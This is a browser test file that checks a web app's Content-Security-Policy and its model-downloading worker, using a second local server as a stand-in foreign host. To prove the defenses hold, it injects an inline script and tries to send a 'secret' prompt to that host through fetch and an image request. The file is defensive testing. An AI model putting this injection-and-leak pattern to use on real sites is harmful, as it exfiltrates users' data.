// The Content-Security-Policy, in Chromium: the page runs only the site's own scripts and connects
// only to its own origin (index.html's meta tag); the worker, which downloads models, connects only
// to the hosts the page names for it (sw.js writes its policy: www/hosts.js), so a host the user
// typed in works and any other is refused. A second server on another port plays "another host".
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startSite, launchBrowser, openPage } from './harness.mjs';
import { openGpuPage, waitForMessage, downloadByUrl } from './synthetic.mjs';

/** Another origin serving the same files, readable cross-origin (CORS), as a model host is. */
function startOtherHost() {
  return startSite({ intercept: (req, res) => { res.setHeader('access-control-allow-origin', '*'); return false; } });
}

test('the page runs no injected script and connects to no other host', async () => {
  const site = await startSite();
  const other = await startOtherHost();
  const browser = await launchBrowser({ webgpu: false });
  try {
    const { page } = await openPage(browser, site.url);
    const result = await page.evaluate(async (leak) => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.injected = true;';
      document.body.append(script);
      let sent = true;
      try { await fetch(leak); } catch { sent = false; }
      const image = new Image();
      image.src = `${leak}&as=image`;
      await new Promise((resolve) => { image.onerror = resolve; image.onload = resolve; });
      await new Promise((resolve) => setTimeout(resolve, 200)); // violation events are queued tasks
      return { injected: window.injected === true, sent, violations };
    }, `${other.url}leak?prompt=a%20secret`);
    assert.equal(result.injected, false, 'an inline script ran');
    assert.equal(result.sent, false, 'fetch reached another host');
    for (const directive of ['script-src-elem', 'connect-src', 'img-src']) {
      assert.ok(result.violations.includes(directive), `no ${directive} violation: ${result.violations.join(', ')}`);
    }
    assert.deepEqual(other.requests, [], 'the other host was asked');
  } finally {
    await browser.close();
    site.close();
    other.close();
  }
});

test('the worker downloads only from hosts the user chose', { timeout: 180_000 }, async () => {
  const site = await startSite();
  const other = await startOtherHost();
  const browser = await launchBrowser();
  try {
    const { page } = await openGpuPage(browser, site.url);
    // The worker's policy comes from the service worker: reload once it controls the page.
    await page.waitForSelector('body[data-offline="ready"]', { timeout: 60_000 });
    await page.reload();
    await page.waitForSelector('body[data-gpu="ready"]', { timeout: 60_000 });
    const manifestUrl = `${other.url}www/models/tiny-sd1/manifest.json`;

    // A worker started for no other host (as an injected script would ask it) cannot fetch there.
    const refused = await page.evaluate((url) => new Promise((resolve) => {
      const worker = new Worker('www/worker.js', { type: 'module' });
      worker.onmessage = ({ data }) => { if (data.type === 'error' || data.type === 'downloaded') { worker.terminate(); resolve(data); } };
      worker.postMessage({ type: 'download', id: 'sneaky', manifestUrl: url });
    }), manifestUrl);
    assert.equal(refused.type, 'error');
    assert.match(refused.message, /could not fetch the manifest/);
    assert.deepEqual(other.requests, [], 'the other host was asked');

    // The user types that host's manifest URL: the page starts a worker allowed to reach it.
    await downloadByUrl(page, manifestUrl);
    await waitForMessage(page, 'downloaded', manifestUrl, 120_000);
    assert.ok(other.requests.includes('/www/models/tiny-sd1/manifest.json'), other.requests.join(', '));
    assert.ok(other.requests.some((p) => p.endsWith('.bin')), `no shard from the other host: ${other.requests.join(', ')}`);
    // The new worker opened the GPU again (one 'gpu' message per worker since the reload).
    await page.waitForFunction(() => window.__msgs.filter((m) => m.type === 'gpu').length === 2, null, { timeout: 60_000 });
  } finally {
    await browser.close();
    site.close();
    other.close();
  }
});
